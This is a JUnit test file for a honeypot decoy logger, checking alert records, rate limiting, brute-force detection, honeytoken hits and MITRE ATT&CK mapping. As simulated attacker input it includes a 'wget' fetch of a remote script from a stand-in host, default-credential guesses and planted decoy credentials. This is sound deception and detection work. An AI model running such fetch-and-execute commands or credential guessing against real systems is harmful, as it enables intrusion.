package dev.vigil.deception.decoy;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.vigil.output.EveSink;
import dev.vigil.testing.EveJson;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class DecoyLogTest {
    /** A clock the test moves by hand. */
    static final class ManualClock extends Clock {
        Instant now = Instant.parse("2026-11-28T10:00:00Z");
        @Override public ZoneOffset getZone() { return ZoneOffset.UTC; }
        @Override public Clock withZone(java.time.ZoneId zone) { return this; }
        @Override public Instant instant() { return now; }
        void advance(Duration d) { now = now.plus(d); }
    }

    static final TokenLookup TOKENS = new TokenLookup() {
        @Override public TokenUse credential(String user, String password) {
            return "svc_backup".equals(user) && "Bk7!secret".equals(password) ? new TokenUse("token--1", "credential", "backup script on FS01") : null;
        }
        @Override public TokenUse dnsName(String name) {
            return name.toLowerCase().endsWith("k3x9q2.canary.example") ? new TokenUse("token--2", "dns", "in the VPN how-to") : null;
        }
        @Override public TokenUse url(String host, String path) { return null; }
    };

    final ByteArrayOutputStream out = new ByteArrayOutputStream();
    final ManualClock clock = new ManualClock();
    final DecoyLog log = new DecoyLog(new EveSink(out), true, DecoyLog.Policy.DEFAULTS, TOKENS, clock);

    Interaction from(String ip, int port) {
        return new Interaction("bastion", "ssh", ip + ":" + port, ip, port, "10.0.0.5", 22, "TCP", "ssh");
    }

    List<JsonNode> records() throws IOException {
        List<JsonNode> l = new ArrayList<>();
        for (String line : out.toString(java.nio.charset.StandardCharsets.UTF_8).split("\n")) if (!line.isBlank()) l.add(EveJson.JSON.readTree(line));
        return l;
    }

    List<JsonNode> alerts(int sid) throws IOException {
        return records().stream().filter(r -> r.path("alert").path("signature_id").asInt() == sid).toList();
    }

    @Test
    void everyRecordMatchesItsSchema() throws IOException {
        log.connect(from("203.0.113.9", 40000));
        log.login(from("203.0.113.9", 40000), "password", "root", "toor", false);
        log.login(from("203.0.113.9", 40000), "password", "svc_backup", "Bk7!secret", true);
        log.command(from("203.0.113.9", 40000), "uname -a");
        log.download(from("203.0.113.9", 40000), "wget http://198.51.100.7/x.sh", "http://198.51.100.7/x.sh");
        log.fileRead(from("203.0.113.9", 40000), "/home/svc_backup/Projects/plan.docx", 18_000);
        log.query(new Interaction("canary-dns", "dns", null, "192.0.2.53", 5353, "10.0.0.6", 53, "UDP", "dns"), "abc.k3x9q2.canary.example", "A");
        log.credentialPost(new Interaction("vpn", "http", null, "203.0.113.9", 40001, "10.0.0.7", 443, "TCP", "http"),
                Map.of("method", "POST", "uri", "/remote/login"), "alice", "Winter2026");
        log.close();
        var decoy = EveJson.schema("decoy");
        var alert = EveJson.schema("alert");
        List<JsonNode> all = records();
        assertThat(all).hasSizeGreaterThan(10);
        for (JsonNode r : all) {
            var schema = "alert".equals(r.path("event_type").asText()) ? alert : decoy;
            assertThat(schema.validate(r)).as(r.toString()).isEmpty();
        }
        JsonNode token = alerts(7_110_004).getFirst();
        assertThat(token.path("alert").path("mitre").toString()).contains("T1078");
        assertThat(token.path("decoy").path("token").path("memo").asText()).isEqualTo("backup script on FS01");
        assertThat(token.path("alert").path("metadata").path("honeytoken_id").get(0).asText()).isEqualTo("token--1");
        assertThat(alerts(7_110_007)).singleElement().satisfies(a -> assertThat(a.path("src_ip").asText()).isEqualTo("192.0.2.53"));
        assertThat(alerts(7_110_005).getFirst().path("alert").path("mitre").get(0).asText()).isEqualTo("T1083");
        assertThat(alerts(7_110_006).getFirst().path("alert").path("mitre").get(0).asText()).isEqualTo("T1105");
    }

    @Test
    void alertsAreRateLimitedPerSourceAndTheHeldBackAreCounted() throws IOException {
        for (int i = 0; i < 5; i++) log.command(from("203.0.113.9", 40000), "ls " + i);
        log.command(from("203.0.113.10", 40000), "ls");
        assertThat(alerts(7_110_005)).hasSize(2);
        clock.advance(Duration.ofSeconds(61));
        log.command(from("203.0.113.9", 40000), "id");
        List<JsonNode> a = alerts(7_110_005);
        assertThat(a).hasSize(3);
        assertThat(a.get(2).path("decoy").path("suppressed").asLong()).isEqualTo(4);
        assertThat(a.get(2).path("decoy").path("command").asText()).isEqualTo("id");
        log.command(from("203.0.113.9", 40000), "w");
        log.close();
        // the one held back after the last alert is reported in the digest at close
        JsonNode digest = records().stream().filter(r -> "digest".equals(r.path("decoy").path("action").asText())).findFirst().orElseThrow();
        assertThat(digest.path("decoy").path("suppressed").asLong()).isEqualTo(1);
        assertThat(digest.path("decoy").path("signature_id").asInt()).isEqualTo(7_110_005);
        assertThat(records().stream().filter(r -> r.path("event_type").asText().equals("decoy")
                && "command".equals(r.path("decoy").path("action").asText()))).as("every command recorded").hasSize(8);
        assertThat(log.suppressed()).isEqualTo(5);
    }

    @Test
    void bruteForceIsOneAlertPerBurst() throws IOException {
        for (int i = 0; i < 40; i++) {
            log.login(from("198.51.100.4", 50000 + i), "password", "root", "pass" + i, false);
            clock.advance(Duration.ofSeconds(2));
        }
        assertThat(alerts(7_110_003)).singleElement().satisfies(a -> {
            assertThat(a.path("decoy").path("failures").asInt()).isEqualTo(10);
            assertThat(a.path("alert").path("mitre").get(0).asText()).isEqualTo("T1110");
        });
        // a quiet spell longer than the window ends the burst; the next burst alerts again
        clock.advance(Duration.ofMinutes(6));
        for (int i = 0; i < 9; i++) log.login(from("198.51.100.4", 51000 + i), "password", "admin", "x" + i, false);
        assertThat(alerts(7_110_003)).hasSize(1);
        log.login(from("198.51.100.4", 52000), "password", "admin", "y", false);
        assertThat(alerts(7_110_003)).hasSize(2);
        // a token credential is not a failure and alerts on its own
        log.login(from("198.51.100.4", 52001), "password", "svc_backup", "Bk7!secret", true);
        assertThat(alerts(7_110_004)).hasSize(1);
        assertThat(records().stream().filter(r -> "login".equals(r.path("decoy").path("action").asText())
                && r.path("event_type").asText().equals("decoy"))).hasSize(51);
    }

    @Test
    void everyDeceptionTechniqueIsNamedFromAttack() throws IOException {
        for (DecoySignature sig : DecoySignature.values()) {
            for (String t : sig.techniques) assertThat(dev.vigil.detect.attack.AttackTechniques.all()).as(sig + " " + t).containsKey(t);
        }
        log.command(from("203.0.113.9", 40000), "ls");
        assertThat(alerts(7_110_005).getFirst().path("alert").path("metadata").path("mitre_technique_name").get(0).asText()).isEqualTo("File and Directory Discovery");
    }
}
